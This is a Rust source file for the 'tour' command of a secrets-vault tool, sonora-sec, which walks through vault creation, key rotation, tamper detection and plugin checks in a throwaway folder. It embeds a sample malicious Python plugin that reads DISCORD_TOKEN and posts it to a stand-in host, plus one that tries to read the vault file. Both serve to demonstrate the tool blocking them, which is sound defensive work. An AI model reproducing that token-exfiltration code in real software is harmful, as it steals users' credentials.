//! `tour`: the main job in a throwaway folder, with real commands and their real output.

use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use crate::cli::context::Context;
use crate::cli::error::CliError;
use crate::cli::exit::Exit;
use crate::core::disk::{Disk as _, SystemDisk, read_whole, replace};
use crate::core::secret::random;

/// Largest vault that the tour handles, in bytes.
const MAX_TOUR_BYTES: usize = 1 << 20;

/// See it work, in a throwaway folder
///
/// Runs real commands and shows each with its output. Needs nothing but this program, and
/// leaves nothing behind.
#[derive(Debug, clap::Args)]
#[command(after_help = "Examples:\n  sonora-sec tour")]
pub(crate) struct Args {}

/// One command of the tour.
struct Step {
    /// What it shows.
    says: &'static str,
    /// The words after `sonora-sec`.
    words: &'static [&'static str],
    /// What comes through the pipe.
    input: Option<&'static str>,
    /// The exit code it must have.
    exit: u8,
}

const MAKE: &[Step] = &[
    Step {
        says: "Make a vault: a passphrase for you, an age identity for the bot.",
        words: &["init", "--passphrase-file", "passphrase.txt", "--new-identity", "bot.key"],
        input: None,
        exit: 0,
    },
    Step {
        says: "Store the bot's token. It comes through a pipe, never as an argument.",
        words: &["store", "discord_token", "--tag", "bot=music", "--identity", "bot.key"],
        input: Some("MTA1NDc.tour.not-a-real-token\n"),
        exit: 0,
    },
    Step {
        says: "Let chance choose the Lavalink password.",
        words: &[
            "store",
            "lavalink_password",
            "--generate",
            "--expires",
            "90d",
            "--identity",
            "bot.key",
        ],
        input: None,
        exit: 0,
    },
    Step {
        says: "See what is there, without values.",
        words: &["list", "--long", "--identity", "bot.key"],
        input: None,
        exit: 0,
    },
    Step {
        says: "Read one, as the bot does: with its identity, in milliseconds, without a passphrase.",
        words: &["get", "discord_token", "--identity", "bot.key"],
        input: None,
        exit: 0,
    },
];

const ROTATION: Step = Step {
    says: "Rotate the master key from a script. The bot's identity stays valid.",
    words: &[
        "rotate",
        "--passphrase-file",
        "passphrase.txt",
        "--new-passphrase-file",
        "new-passphrase.txt",
        "--yes",
    ],
    input: None,
    exit: 0,
};

const ROTATE: &[Step] = &[
    ROTATION,
    Step { says: "Run it again: nothing to do, and the script can tell.", exit: 6, ..ROTATION },
    Step {
        says: "The old passphrase opens nothing any more, and changes nothing.",
        words: &["get", "discord_token", "--passphrase-file", "passphrase.txt"],
        input: None,
        exit: 3,
    },
    Step {
        says: "The bot reads on.",
        words: &["get", "discord_token", "--identity", "bot.key"],
        input: None,
        exit: 0,
    },
];

/// A plugin that does what it says.
const LYRICS: &str = "import requests\n\n\ndef lyrics(song):\n    return \
    requests.get(\"https://api.lyrics.example/find\", params={\"q\": song}, timeout=5).text\n";

/// A plugin that takes the token along.
const THIEF: &str = "import os\nimport requests\n\ntoken = os.environ[\"DISCORD_TOKEN\"]\n\
    requests.post(\"https://stats.example/hit\", data={\"id\": token})\n";

const PLUGINS: &[Step] = &[
    Step {
        says: "A plugin may do nothing by itself. See what this one wants, without running it: denied.",
        words: &["validate-plugin", "lyrics.py"],
        input: None,
        exit: 1,
    },
    Step {
        says: "That host is what a plugin for lyrics needs. Grant it, and no more: allowed.",
        words: &["validate-plugin", "lyrics.py", "--permission", "net.http:api.lyrics.example"],
        input: None,
        exit: 0,
    },
    Step {
        says: "This one sends the token away. No grant covers that.",
        words: &["validate-plugin", "stats.py", "--grant-all"],
        input: None,
        exit: 1,
    },
];

/// A plugin that reads what lies beside it.
const NOSY: &str = "def main():\n    return open(\"tour.svault\", \"rb\").read()\n";

const SANDBOX: Step = Step {
    says: "Run a plugin that wants to read the vault, with nothing granted: it can compute, and no more.",
    words: &["sandbox", "run", "nosy.py"],
    input: None,
    exit: 1,
};

const READ: Step = Step {
    says: "",
    words: &["get", "discord_token", "--identity", "bot.key"],
    input: None,
    exit: 4,
};

/// A throwaway folder, removed when dropped.
struct Stage {
    folder: PathBuf,
    program: PathBuf,
}

pub(super) fn run(_: &Args, context: &Context) -> Result<Exit, CliError> {
    let stage = Stage::new().map_err(|error| CliError::io("could not set up the tour", &error))?;
    stage.show(context)
}

impl Stage {
    fn new() -> std::io::Result<Self> {
        let name = format!("sonora-sec-tour-{}", data_encoding::HEXLOWER.encode(&random::<8>()));
        let folder = std::env::temp_dir().join(name);
        SystemDisk.create_folder(&folder)?;
        let stage = Self { folder, program: std::env::current_exe()? };
        replace(&SystemDisk, &stage.file("passphrase.txt"), b"correct horse battery staple\n")?;
        replace(&SystemDisk, &stage.file("new-passphrase.txt"), b"seven slow snails sing\n")?;
        replace(&SystemDisk, &stage.file("lyrics.py"), LYRICS.as_bytes())?;
        replace(&SystemDisk, &stage.file("nosy.py"), NOSY.as_bytes())?;
        replace(&SystemDisk, &stage.file("stats.py"), THIEF.as_bytes())?;
        Ok(stage)
    }

    fn file(&self, name: &str) -> PathBuf {
        self.folder.join(name)
    }

    fn show(&self, context: &Context) -> Result<Exit, CliError> {
        let failed = |error: std::io::Error| CliError::io("could not go on with the tour", &error);
        let page = |text: &str| context.terminal.page(text);
        page("A tour of sonora-sec, in a throwaway folder.\n")?;
        self.steps(context, MAKE)?;
        if Path::new("/bin/sh").exists() {
            self.step(
                context,
                &Step {
                    says: "Start the bot with the token in its environment, and nowhere else.",
                    words: &[
                        "run",
                        "--env",
                        "DISCORD_TOKEN=discord_token",
                        "--identity",
                        "bot.key",
                        "--",
                        "sh",
                        "-c",
                        "echo \"bot: I have a token of ${#DISCORD_TOKEN} characters\"",
                    ],
                    input: None,
                    exit: 0,
                },
            )?;
        }
        let vault = self.file("tour.svault");
        let older = read_whole(&SystemDisk, &vault, MAX_TOUR_BYTES).map_err(failed)?;
        self.steps(context, ROTATE)?;
        let present = read_whole(&SystemDisk, &vault, MAX_TOUR_BYTES).map_err(failed)?;

        let mut flipped = present.clone();
        if let Some(byte) = flipped.get_mut(2000) {
            *byte ^= 1;
        }
        replace(&SystemDisk, &vault, &flipped).map_err(failed)?;
        self.step(context, &Step { says: "Flip one bit of the file: refused.", ..READ })?;

        replace(&SystemDisk, &vault, &older).map_err(failed)?;
        let says = "Put the file from before the rotation back: refused, this machine remembers.";
        self.step(context, &Step { says, ..READ })?;

        replace(&SystemDisk, &vault, &present).map_err(failed)?;
        let says = "The right file again: all is well.";
        self.step(context, &Step { says, exit: 0, ..READ })?;
        self.steps(context, PLUGINS)?;
        // Where there is no Python, or no means to confine one, the tour has nothing to show of it.
        let probe = Step { words: &["sandbox", "probe"], exit: 0, ..SANDBOX };
        if self.command(&probe).output().is_ok_and(|output| output.status.success()) {
            self.step(context, &SANDBOX)?;
        }
        page("\nThat was all of it; the folder is gone. Begin with `sonora-sec init`.\n")?;
        Ok(Exit::Done)
    }

    fn steps(&self, context: &Context, steps: &[Step]) -> Result<(), CliError> {
        steps.iter().try_for_each(|step| self.step(context, step))
    }

    /// Shows a command, runs it, shows what it printed, and insists on its exit code.
    fn step(&self, context: &Context, step: &Step) -> Result<(), CliError> {
        let shown: Vec<String> = step.words.iter().map(|word| quoted(word)).collect();
        let pipe = step.input.map(|_| "print-token | ").unwrap_or_default();
        context.terminal.page(&format!(
            "\n# {}\n$ {pipe}sonora-sec {}\n",
            step.says,
            shown.join(" ")
        ))?;
        let failed = |error: std::io::Error| CliError::io("could not run a step", &error);
        let mut child = self.command(step).spawn().map_err(failed)?;
        if let (Some(mut pipe), Some(input)) = (child.stdin.take(), step.input) {
            pipe.write_all(input.as_bytes()).map_err(failed)?;
        }
        let output = child.wait_with_output().map_err(failed)?;
        let mut text = String::from_utf8_lossy(&output.stdout).into_owned();
        if !text.is_empty() && !text.ends_with('\n') {
            text.push('\n');
        }
        text.push_str(&String::from_utf8_lossy(&output.stderr));
        let code = output.status.code().unwrap_or(-1);
        if code != 0 {
            text.push_str(&format!("(exit code {code})\n"));
        }
        context.terminal.page(&text)?;
        if code == i32::from(step.exit) {
            Ok(())
        } else {
            let message = format!("a step ended with {code}, not {}", step.exit);
            Err(CliError::new(Exit::Failed, "io", message))
        }
    }

    /// A command that sees nothing of the user's own vaults and settings.
    fn command(&self, step: &Step) -> Command {
        let mut command = Command::new(&self.program);
        command.args(step.words).current_dir(&self.folder).env_clear();
        command.env("PATH", std::env::var_os("PATH").unwrap_or_default());
        for variable in ["HOME", "XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_STATE_HOME", "TMPDIR"] {
            command.env(variable, &self.folder);
        }
        command.env("SONORA_SEC_VAULT", "tour.svault").env("SONORA_SEC_NO_INPUT", "1");
        let input = if step.input.is_some() { Stdio::piped() } else { Stdio::null() };
        command.stdin(input).stdout(Stdio::piped()).stderr(Stdio::piped());
        command
    }
}

impl Drop for Stage {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.folder);
    }
}

/// Quotes a word as a shell wants it.
fn quoted(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_=./:".contains(c);
    if word.chars().all(plain) { word.to_owned() } else { format!("'{word}'") }
}
